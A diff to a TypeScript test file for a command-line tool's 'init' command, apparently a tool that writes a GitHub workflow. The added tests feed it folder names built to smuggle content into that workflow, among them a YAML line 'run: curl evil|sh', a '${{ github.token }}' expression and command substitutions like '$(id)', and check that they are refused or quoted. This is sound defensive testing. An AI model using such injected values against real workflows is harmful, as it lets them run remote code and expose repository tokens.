@@ -1,6 +1,7 @@
 /** The commands around the check: format, export, init, schema, doctor, completion, help. */
 import { execFileSync } from 'node:child_process';
 import { describe, expect, test } from 'vitest';
+import { parse } from 'yaml';
 import manifest from '../../package.json' with { type: 'json' };
 import { TOOL } from '../../server/src/cli/version.ts';
 import { BROKEN, CLEAN, cx } from './support/run-cx.ts';
@@ -144,6 +145,41 @@ describe('cx init', () => {
       err: 'cx: a.cx is a file, and a programme is written into a folder.\n',
       files: { 'a.cx': '' },
     });
+  });
+
+  test.each([
+    'a\n      - run: curl evil|sh',
+    'a\rb',
+    'a\u0085b',
+    'a\u2028b',
+    'a\u202eb',
+    'a\ufeffb',
+    'a\u0000b',
+    'a\tb',
+    `a \${{ github.token }}`,
+  ])('writes nothing into the folder %j, which no workflow can safely name', async folder => {
+    const run = await cx({ '.git/HEAD': '' }, ['init', folder]);
+    expect(run).toMatchObject({ code: 2, out: '', files: { '.git/HEAD': '' } });
+    expect(run.err).toMatch(/^cx: Nothing was written, since a GitHub workflow cannot safely name the folder a.*\n$/);
+  });
+
+  test.each(['-x', 'a "b"', "it's: #1 {", '- a', '$(id)', '`id`', '&a', '*', '%41', 'été 日本', 'null'])(
+    'names the folder %j for the workflow as it is',
+    async folder => {
+      const run = await cx({ '.git/HEAD': '' }, ['init', '--', folder]);
+      const workflow = parse(run.files['.github/workflows/cx.yml']!, { strict: true });
+      expect(workflow).toMatchObject({ name: `CX ${folder}`, jobs: { check: { env: { CX_FOLDER: folder } } } });
+      expect((await cx({}, 'init -- -x')).err).toContain('Check it: cx check ./-x\n');
+    },
+  );
+
+  test.each(['.github', 'linked'])('writes through no link: %s', async link => {
+    const tree = { '.git/HEAD': '', [link]: { link: '/elsewhere' } };
+    const run = await cx(tree, 'init linked');
+    expect(run).toMatchObject({ code: 2, out: '', files: { '.git/HEAD': '' } });
+    expect(run.err).toContain(
+      `cx: Nothing was written, since ${link} is a symbolic link, and files would land elsewhere.`,
+    );
   });
 
   test('writes a workflow that can do no harm', async () => {
